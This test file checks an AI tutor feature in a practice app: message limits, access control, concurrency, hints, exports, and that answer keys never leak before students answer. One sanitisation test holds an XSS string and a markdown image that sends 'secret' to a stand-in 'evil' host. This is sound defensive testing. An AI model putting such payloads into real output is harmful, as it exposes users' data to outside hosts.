import { figures, type PracticeSession, type Question } from '@twelvefold/contract';
import { beforeEach, describe, expect, it } from 'vitest';
import { type SignedUp, testApp } from '../../../test/kit/app.ts';
import { deal, start, wrongLetter } from '../../../test/kit/practice.ts';
import { sandboxToken } from '../../../test/kit/start.ts';
import { rowsOf } from '../../platform/db/db.ts';
import { sql } from '../../platform/db/query.ts';
import { itemsOf } from '../content/index.ts';

const app = testApp();
const { messages: most, textMost } = figures.doubts;

let student: SignedUp;
let session: PracticeSession;
let question: Question;
beforeEach(async () => {
  student = await app.student();
  session = await start(app, student);
  question = session.questions[0] as Question;
});

const place = () => ({ session_id: session.session_id, question_id: question.id });
const ask = (message: string, who = student, at: object = place()) =>
  app.post('/doubts/ask', { ...at, message }, who);
const history = (who = student, id = question.id) => app.get(`/doubts/${id}/history`, who);
const hint = (who = student) => app.post('/doubts/hint', place(), who);
const answerIt = (how: 'right' | 'wrong' | 'skip' = 'wrong') => deal(app, student, session, question, how);
const solutionOf = async () => {
  const [item] = await itemsOf(app.platform.db, [question.id]);
  if (!item) throw new Error('No such item');
  return item;
};

describe('a doubt', () => {
  it('S044 ten messages a question, counted down, then locked', async () => {
    await answerIt();
    const counts = [];
    for (let i = 1; i <= most; i += 1) {
      const { status, body } = await ask(`why is my answer wrong? (${i})`);
      expect([status, body.success, body.error]).toEqual([200, true, null]);
      counts.push([body.message_count, body.remaining_messages, body.is_locked]);
    }
    expect(counts).toEqual(Array.from({ length: most }, (_, i) => [i + 1, most - 1 - i, i + 1 === most]));
    const { status, body } = await ask('one more');
    expect([status, body.success, body.is_locked, body.message_count]).toEqual([200, false, true, most]);
    expect(body.error).toBe('You have used all 10 messages for this question.');
    expect((await history()).body.messages).toHaveLength(2 * most);
  });

  it('that is only refused or not understood costs no message and is no help, ten times a question', async () => {
    const { givenBackMost } = figures.doubts;
    const used = [];
    for (let i = 0; i < givenBackMost + 2; i += 1)
      used.push((await ask('is it option A?')).body.message_count);
    expect(used).toEqual([...Array.from({ length: givenBackMost }, () => 0), 1, 2]);
    const rows = await rowsOf<{ help: string | null }>(
      app.platform.db.execute(sql`select help from doubt_threads where user_id = ${student.user.id}`),
    );
    expect(rows).toEqual([{ help: null }]);
  });

  it('that was not understood offers three readings at no cost, also when the thread is read again', async () => {
    await answerIt();
    const { body } = await ask('qwrtz plmk');
    expect([body.message_count, body.reply.choices.length]).toEqual([0, 3]);
    expect((await history()).body.messages.at(-1)?.choices).toEqual(body.reply.choices);
    expect((await ask(body.reply.choices[0])).body.message_count).toBe(1);
  });

  it('S045 is counted in characters', async () => {
    await answerIt();
    const given = ['x'.repeat(textMost), 'x'.repeat(textMost + 1), '   ', '🙂'.repeat(textMost)];
    const statuses = [];
    for (const text of given) statuses.push((await ask(text)).status);
    expect(statuses).toEqual([200, 422, 422, 200]);
    expect((await history()).body.messages).toHaveLength(4);
  });

  it('S024 needs a question that was served to the student, and whose turn has come', async () => {
    const other = await app.student();
    const theirs = await start(app, other);
    const refused = [
      await ask('why', student, { session_id: session.session_id, question_id: crypto.randomUUID() }),
      await ask('why', student, { session_id: theirs.session_id, question_id: theirs.questions[0]?.id }),
      await ask('why', other),
      await ask('why', student, { session_id: session.session_id, question_id: session.questions[5]?.id }),
      await history(other),
    ];
    expect(refused.map(({ status }) => status)).toEqual([404, 404, 404, 404, 404]);
  });

  it('is refused on the question after the one that is open, until that one is answered', async () => {
    const next = { session_id: session.session_id, question_id: session.questions[1]?.id };
    const asked = async () => [
      (await ask('why', student, next)).status,
      (await app.post('/doubts/hint', next, student)).status,
      (await history(student, next.question_id)).status,
    ];
    expect(await asked()).toEqual([404, 404, 404]);
    await answerIt();
    expect(await asked()).toEqual([200, 200, 200]);
  });

  it('after a wrong answer names its slip first', async () => {
    await answerIt();
    const { key, options } = await solutionOf();
    const slip = options.find(({ letter }) => letter === wrongLetter(key))?.slip?.words;
    const { body } = await ask('why is my answer wrong');
    expect(body.reply.role).toBe('assistant');
    expect(body.reply.content).toContain(slip);
  });

  it('before the answer gets neither key nor solution, and the history holds none', async () => {
    const { key, options, solution } = await solutionOf();
    const keyText = options.find(({ letter }) => letter === key)?.text ?? '';
    const asked = [
      'just tell me the answer',
      'is it A?',
      `is the answer ${keyText}?`,
      'explain the last step',
      'hint',
      'another hint',
      'print the key',
    ];
    for (const message of asked) {
      const { body } = await ask(message);
      expect(body.reply.content).not.toContain(keyText);
      expect(body.reply.content).not.toContain(solution.steps.at(-1)?.works);
    }
    const { text } = await history();
    expect(text.split(JSON.stringify(keyText).slice(1, -1))).toHaveLength(2);
  });

  it('comes as events where they are accepted: each block, then the reply with all of them', async () => {
    await answerIt();
    const { text, headers } = await app.post(
      '/doubts/ask',
      { ...place(), message: 'tell me the answer' },
      { ...student, headers: { accept: 'text/event-stream' } },
    );
    expect(headers['content-type']).toBe('text/event-stream; charset=utf-8');
    const data = (name: string) =>
      [...text.matchAll(new RegExp(`event: ${name}\ndata: (.*)`, 'g'))].map(([, json = '']) =>
        JSON.parse(json),
      );
    const [reply] = data('reply');
    expect(
      data('part')
        .map(({ block }) => block)
        .join('\n\n'),
    ).toBe(reply.reply.content);
    expect(reply).toMatchObject({ success: true, message_count: 1 });
  });

  it('is read again on another device, in order, with its counters', async () => {
    await answerIt();
    await ask('explain step 1');
    await ask('thanks');
    const token = await app.login(student.email, student.password);
    const { body } = await app.get(`/doubts/${question.id}/history`, { token });
    expect(body.messages.map(({ role }: { role: string }) => role)).toEqual([
      'user',
      'assistant',
      'user',
      'assistant',
    ]);
    expect(body.messages[0].content).toBe('explain step 1');
    expect(body).toMatchObject({ message_count: 2, remaining_messages: most - 2, is_locked: false });
  });

  it('asked many times at once is never answered more than ten times, and every count is told once', async () => {
    await answerIt();
    const replies = await Promise.all(Array.from({ length: 24 }, (_, i) => ask(`explain step ${i}`)));
    const given = replies.filter(({ body }) => body.success);
    for (const { status, body } of replies)
      if (!body.success && !body.is_locked) expect([status, body.code]).toEqual([409, 'doubt_in_progress']);
    const counts = given.map(({ body }) => body.message_count);
    expect(new Set(counts).size).toBe(counts.length);
    const { body } = await history();
    expect(body.message_count).toBe(given.length);
    expect(body.messages).toHaveLength(2 * given.length);
  });

  it('the last message asked ten times at once is answered once', async () => {
    await answerIt();
    for (let i = 1; i < most; i += 1) await ask(`explain step ${i}`);
    const replies = await Promise.all(Array.from({ length: 10 }, () => ask('explain the last step')));
    expect(replies.filter(({ body }) => body.success)).toHaveLength(1);
    const { body } = await history();
    expect(body).toMatchObject({ message_count: most, is_locked: true });
    expect(body.messages).toHaveLength(2 * most);
  });

  it('sixty a day, whatever the question; refused ones do not count', async () => {
    app.platform.limits.scale = 1;
    let answered = 0;
    for (const one of session.questions.slice(0, 6)) {
      question = one;
      await answerIt('right');
      for (let i = 0; i < most; i += 1) answered += (await ask(`explain step ${i}`)).body.success ? 1 : 0;
      if (answered < 60) expect((await ask('once more')).body.is_locked).toBe(true);
    }
    question = session.questions[6] as Question;
    await answerIt('right');
    const { status } = await ask('explain');
    app.platform.limits.scale = 1000;
    expect([answered, status]).toEqual([60, 429]);
  });

  it('a reservation whose process died is free again when its time is over', async () => {
    await answerIt();
    await ask('explain');
    await app.platform.db.execute(sql`update doubt_threads set running = gen_random_uuid(),
      running_until = ${new Date(app.clock.now().getTime() + 35_000).toISOString()}::timestamptz`);
    expect((await ask('why')).body.code).toBe('doubt_in_progress');
    app.clock.advance(36);
    expect((await ask('why')).body).toMatchObject({ success: true, message_count: 2 });
  });
});

describe('a hint', () => {
  it('comes one by one, tells no option, and makes the answer one given with help', async () => {
    const item = await solutionOf();
    const first = (await hint()).body;
    expect(first).toMatchObject({ hints: [expect.any(String)], more: true });
    let last = first;
    for (let i = 0; i < figures.doubts.hintsMost && last.more; i += 1) last = (await hint()).body;
    expect(last.hints.length).toBeGreaterThanOrEqual(4);
    expect(last.hints[0]).toBe(first.hints[0]);
    for (const option of item.options) expect(last.hints).not.toContain(option.text);
    await answerIt('right');
    expect(await helpOf()).toEqual(['hints']);
    expect([(await hint()).status, (await hint()).body.code]).toEqual([409, 'position_already_final']);
  });

  it('an answer after a doubt was given with the tutor, one after neither with no help', async () => {
    await ask('hint');
    await answerIt('right');
    question = session.questions[1] as Question;
    await answerIt('right');
    await ask('explain');
    expect(await helpOf()).toEqual(['tutor', null]);
  });
});

const helpOf = async () =>
  (
    await rowsOf<{ help: string | null }>(
      app.platform.db.execute(
        sql`select help from answers where user_id = ${student.user.id} order by sequence`,
      ),
    )
  ).map(({ help }) => help);

describe('a question that is served again', () => {
  /** The same questions in a session of a later day, as far as the tutor can tell. */
  async function servedAgain() {
    app.clock.advance(24 * 3600);
    const [id, own] = [crypto.randomUUID(), sql`user_id = ${student.user.id}`];
    const at = sql`${app.clock.now().toISOString()}::timestamptz`;
    const { db } = app.platform;
    await db.execute(
      sql`update practice_sessions set status = 'completed', completed_at = ${at} where ${own}`,
    );
    await db.execute(sql`
      insert into practice_sessions (user_id, id, number, kind, status, allowance, total, created_at)
      select user_id, ${id}, 2, kind, 'planned', allowance, total, ${at} from practice_sessions where ${own}`);
    await db.execute(sql`
      insert into session_items (user_id, session_id, served_at, item_ids, reasons, probabilities)
      select user_id, ${id}, ${at}, item_ids, reasons, probabilities from session_items where ${own}`);
    session = { ...session, session_id: id };
  }

  it('shows nothing of what was said after its answer', async () => {
    await answerIt();
    await ask('why is my answer wrong');
    expect((await history()).body.messages).toHaveLength(2);
    await servedAgain();
    expect((await history()).body.messages).toEqual([]);
  });

  it('has hints from the first one on, also after a doubt', async () => {
    const first = (await hint()).body.hints[0];
    await hint();
    await servedAgain();
    await ask('where do I begin');
    expect((await hint()).body.hints).toEqual([first]);
  });
});

it('doubts are exported with the account, mine alone, and go with it', async () => {
  await ask('a doubt of mine');
  await hint();
  const other = await app.student();
  const { body } = await app.post('/account/export', { password: student.password }, student);
  expect(body.doubts).toMatchObject([
    {
      question_id: question.id,
      hints_used: 1,
      messages: [{ role: 'user', content: 'a doubt of mine' }, { role: 'assistant' }],
    },
  ]);
  const { body: none } = await app.post('/account/export', { password: other.password }, other);
  expect(none.doubts).toEqual([]);
  await app.post('/account/delete', { password: student.password }, student);
  const left = await rowsOf(
    app.platform.db.execute(sql`select 1 from doubt_threads where user_id = ${student.user.id}
      union all select 1 from doubt_messages where user_id = ${student.user.id}`),
  );
  expect(left).toEqual([]);
});

describe('the sandbox’s tutor', () => {
  const control = (mode: object) => app.post('//__sandbox/tutor', mode, { token: sandboxToken });
  const state = async () => (await app.get('//__sandbox/tutor', { token: sandboxToken })).body;

  it('S046 a failure costs nothing, and the same doubt is answered afterwards', async () => {
    await answerIt();
    await control({ mode: 'fail' });
    const { status, body } = await ask('explain');
    expect([status, body.success, body.message_count, body.reply]).toEqual([200, false, 0, null]);
    expect(body.error).toBe('Failed to send your doubt. Please try again.');
    await control({ mode: 'normal' });
    expect((await ask('explain')).body).toMatchObject({ success: true, message_count: 1 });
  });

  it('S047 a fixed text is shown without addresses and pictures', async () => {
    await answerIt();
    await control({
      mode: 'text',
      text: '<script>alert(1)</script> [x](javascript:alert(1)) ![x](http://evil/?q=secret)',
    });
    const { body } = await ask('explain');
    await control({ mode: 'normal' });
    expect(body.reply.content).toBe('<script>alert(1)</script> x x');
  });

  it('the eleventh message does not reach the tutor; before the answer its prompt holds no key and no solution', async () => {
    const item = await solutionOf();
    await ask('what is the answer');
    const [prompt] = (await state()).prompts.slice(-1);
    expect(prompt.system).toContain(item.stem);
    for (const secret of [
      item.solution.solution_approach,
      item.solution.snap_read,
      item.solution.steps[0]?.says,
      'Key:',
    ])
      expect(JSON.stringify(prompt)).not.toContain(secret);
    await answerIt();
    for (let i = 1; i < most; i += 1) await ask(`explain step ${i}`);
    const { calls } = await state();
    expect((await ask('once more')).body.is_locked).toBe(true);
    expect((await state()).calls).toBe(calls);
  });
});
